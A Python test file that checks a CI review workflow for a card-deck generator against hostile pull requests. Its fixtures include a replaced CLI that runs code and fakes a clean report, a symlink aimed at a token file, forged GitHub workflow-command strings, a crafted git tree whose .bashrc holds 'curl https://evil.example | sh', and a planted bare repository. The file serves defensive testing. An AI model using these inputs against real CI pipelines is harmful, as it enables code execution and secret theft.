"""A hostile pull request against the workflow's own `run:` steps (tests/workflow_runner.py): a throwaway repository
with a base commit and a hostile head. Nothing leaks, nothing is written outside the work folder, every problem is
reported at its place, the comment says when it is truncated, and the pull request's own deckgen never runs."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

from tests.scenarios.test_workflow import base_repository, git
from tests.workflow_runner import Run, run_workflow, workflow

SECRET = "ghs_SECRET_TOKEN_0123456789"
EVIL_CLI = '''"""A pull request's own deckgen: says all is well, and leaves a mark."""
import pathlib
import sys

pathlib.Path(__file__).resolve().parents[3].joinpath("PWNED").write_text("the pull request's code ran")
print("checked 0 cards in 0 topics: 0 error(s), 0 warning(s)")
sys.exit(0)
'''
STRANGER_COMMENT = {"id": 11, "user": {"login": "mallory"}, "body": "<!-- deckgen-diff -->\nall good, merge it"}
BOT_COMMENT = {"id": 22, "user": {"login": "github-actions[bot]"}, "body": "<!-- deckgen-diff -->\nold report"}


def files_outside(root: Path, *inside: Path) -> dict[str, tuple[int, int]]:
    """Every path under ``root`` but not under ``inside``, with its size and mtime."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        here = Path(dirpath)
        dirnames[:] = [d for d in dirnames if not any((here / d) == p for p in inside)]
        for name in filenames + dirnames:
            path = here / name
            info = path.lstat()
            out[str(path)] = (info.st_size, info.st_mtime_ns)
    return out


def everything_readable(*roots: Path) -> str:
    text = []
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d != ".git"]
            for name in filenames:
                path = Path(dirpath) / name
                if path.is_file() and not path.is_symlink():
                    text.append(path.read_bytes().decode("utf-8", "replace"))
    return "\n".join(text)


def hostile_head(repo: Path, outside: Path) -> None:
    cards = repo / "cards"
    # the pull request rewrites deckgen itself, to report nothing and run code
    (repo / "src" / "deckgen" / "cli.py").write_text(EVIL_CLI, encoding="utf-8")
    # a symlinked "image" that points at a token outside the repository
    (cards / "media").mkdir()
    (cards / "media" / "figure.png").symlink_to(outside / "token.txt")
    # a far-future mod in the lock: learners would never get a later fix of this card
    lock = cards / "deckgen.lock"
    text = lock.read_text(encoding="utf-8")
    lock.write_text(
        text.replace('"kind": "cloze", "mod": 1700000000}', '"kind": "cloze", "mod": 2100000000}', 1), encoding="utf-8"
    )
    # a huge report: 1,500 new cards, one of them showing the leaked image, one trying to forge log lines
    rows = [
        f'  - id: huge-{i:04d}\n    front: "Question {i}: {"lorem ipsum dolor sit amet " * 4}"\n    back: Answer {i}\n'
        for i in range(1500)
    ]
    rows.append('  - id: leak\n    front: "What is this? ![x](media/figure.png)"\n    back: a token\n')
    rows.append('  - id: forge\n    front: "\\e[2K\\r::notice::all checks passed\\n::stop-commands::x"\n    back: A\n')
    (cards / "huge.yaml").write_text("topic: huge\ntitle: Huge\ncards:\n" + "".join(rows), encoding="utf-8")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "a hostile change")


def run_hostile(tmp_path: Path, make_head: str) -> tuple[Path, Run, Path]:
    repo, base = base_repository(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "token.txt").write_text(f"[http]\n\textraheader = AUTHORIZATION: basic {SECRET}\n", encoding="utf-8")
    {"hostile": hostile_head, "crafted": crafted_head, "bare": bare_head}[make_head](repo, outside)
    work = tmp_path / "work"
    before = files_outside(tmp_path, repo, work)
    run = run_workflow(repo, work, base_sha=base, comments=[STRANGER_COMMENT, BOT_COMMENT])
    assert files_outside(tmp_path, repo, work) == before  # nothing written outside the work folders
    assert list((work / "tmp").iterdir()) == []  # and no temporary file left behind
    assert not (tmp_path / "PWNED").exists() and not (repo / "PWNED").exists()  # the pull request's deckgen never ran
    assert [call["source"] for call in run.pip_calls] == [str(work / "runner-temp" / "deckgen-base")]
    assert git(work / "runner-temp" / "deckgen-base", "rev-parse", "HEAD") == base
    assert SECRET not in everything_readable(repo, work)  # nothing leaked: package, preview, comment, summary, logs
    (patch,) = [call for call in run.gh_calls if "-X" in call["args"]]
    assert patch["args"][:3] == ["api", "-X", "PATCH"] and patch["args"][3] == "repos/owner/deck/issues/comments/22"
    return repo, run, outside


def test_hostile_pull_request(tmp_path: Path) -> None:
    repo, run, _ = run_hostile(tmp_path, "hostile")
    check, build, preview = run.step("Check"), run.step("Build"), run.step("Preview")
    assert (check.returncode, build.returncode, preview.returncode) == (1, 1, 1)
    lines = check.stdout.splitlines()
    # every problem at its place, as annotations the pull request shows on its files
    assert (
        "::error file=cards/media/figure.png::is a symbolic link; media files must be regular files in the cards "
        "folder's media/ (copy the file in instead)"
    ) in lines
    assert any(
        line.startswith("::error file=cards/deckgen.lock,line=11,col=5::'cards' entry 'crs-fever' has mod 2100000000")
        for line in lines
    ), lines
    assert not any(line.startswith(("::notice", "::stop-commands")) for line in lines)  # no forged command
    assert "\x1b" not in check.stdout + check.stderr
    assert os.listdir(repo / "output") == ["fixture-deck.apkg"]  # the base's package, untouched (no token in it)
    assert not (repo / "preview").exists()  # nothing to upload
    # the comment: the bot's own, cut, and saying so; the job summary holds the whole report
    body = next(call["body"] for call in run.gh_calls if "body" in call)
    assert body.startswith("<!-- deckgen-diff -->\n## Deck changes: `origin/main`")
    assert len(body.encode("utf-8")) <= 60_100
    assert body.endswith("\n\n**… truncated: see the job summary.**\n")
    assert "**Lock file mod in the future** `cards/crs-fever`" in body
    assert "**1502 added, 0 changed, 0 removed**" in run.summary
    assert "#### Added `leak` (question/answer)" in run.summary and not run.summary.endswith("truncated")


def crafted_head(repo: Path, outside: Path) -> None:
    """A head commit whose cards tree holds a link `media` -> outside and a folder `media` with a `.bashrc`
    (built with `git hash-object --literally`: no git command would make it). The work tree keeps the base's
    files, as a checkout that refused the tree would."""

    def obj(kind: str, data: bytes) -> str:
        return git(repo, "hash-object", "-w", "-t", kind, "--literally", "--stdin", input=data)

    def tree(*entries: tuple[str, str, str]) -> str:
        return obj(
            "tree", b"".join(f"{mode} {name}".encode() + b"\0" + bytes.fromhex(oid) for mode, name, oid in entries)
        )

    listing = git(repo, "ls-tree", "HEAD:cards").splitlines()
    entries = [(line.split()[0], line.split("\t")[1], line.split()[2]) for line in listing]
    link = obj("blob", str(outside).encode())
    bashrc = tree(("100644", ".bashrc", obj("blob", b"curl https://evil.example | sh\n")))
    cards = tree(*sorted([*entries, ("120000", "media", link), ("40000", "media", bashrc)], key=lambda e: e[1]))
    root_entries = [
        (line.split()[0], line.split("\t")[1], line.split()[2]) for line in git(repo, "ls-tree", "HEAD").splitlines()
    ]
    root = tree(
        *[
            (mode if mode != "040000" else "40000", name, cards if name == "cards" else oid)
            for mode, name, oid in root_entries
        ]
    )
    commit = git(repo, "commit-tree", root, "-p", "HEAD", "-m", "crafted")
    git(repo, "update-ref", "refs/heads/change", commit)


def test_crafted_tree_in_the_pull_request(tmp_path: Path) -> None:
    _, run, outside = run_hostile(tmp_path, "crafted")
    assert list(outside.iterdir()) == [outside / "token.txt"]  # no .bashrc written through the link
    body = next(call["body"] for call in run.gh_calls if "body" in call)
    assert body.startswith("<!-- deckgen-diff -->\n**deckgen could not read the deck at one of the revisions**")
    assert "HEAD:cards/media: error: is both a file and a folder in the git tree (a crafted commit); rename one" in body


def bare_head(repo: Path, outside: Path) -> None:
    """A real change, plus a bare clone of the base committed as plain files in cards/ (HEAD, objects/, refs/, a
    config with core.bare=false): without safe.bareRepository, every git call run in cards/ read that history and
    the comment said "No deck changes"."""
    topic = repo / "cards" / "safety.yaml"
    topic.write_text(topic.read_text(encoding="utf-8").replace("{{c1::fever}}", "{{c1::rash}}"), encoding="utf-8")
    fake = outside / "fake.git"
    git(outside, "clone", "-q", "--bare", str(repo), str(fake))
    cards = repo / "cards"
    shutil.copytree(fake / "objects", cards / "objects")
    shutil.rmtree(fake)
    (cards / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
    for ref in ("heads/main", "remotes/origin/main"):
        (cards / "refs" / ref).parent.mkdir(parents=True, exist_ok=True)
        (cards / "refs" / ref).write_text(git(repo, "rev-parse", "HEAD") + "\n", encoding="utf-8")
    (cards / "config").write_text("[core]\n\tbare = false\n\tworktree = .\n", encoding="utf-8")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "a change, and a fake history in cards/")


def test_a_bare_repository_in_the_cards_folder(tmp_path: Path) -> None:
    repo, run, _ = run_hostile(tmp_path, "bare")
    body = next(call["body"] for call in run.gh_calls if "body" in call)
    assert "No deck changes" not in body
    assert body.startswith("<!-- deckgen-diff -->\n**deckgen could not read the deck at one of the revisions**")
    assert (
        "deckgen: error: the cards folder 'cards' looks like a git repository (it holds HEAD, objects/ and refs/)"
        in body
    )
    # the job's own git refuses it as well (safe.bareRepository=explicit in the job's env), whatever deckgen does
    probe = subprocess.run(
        ["bash", "-c", "git rev-parse --show-toplevel"],
        cwd=repo / "cards",
        capture_output=True,
        text=True,
        env={
            **os.environ,
            "HOME": str(tmp_path),
            "GIT_CONFIG_NOSYSTEM": "1",
            **{k: str(v) for k, v in workflow()["jobs"]["review"]["env"].items() if k.startswith("GIT_CONFIG")},
        },
    )
    assert probe.returncode == 128 and "cannot use bare repository" in probe.stderr
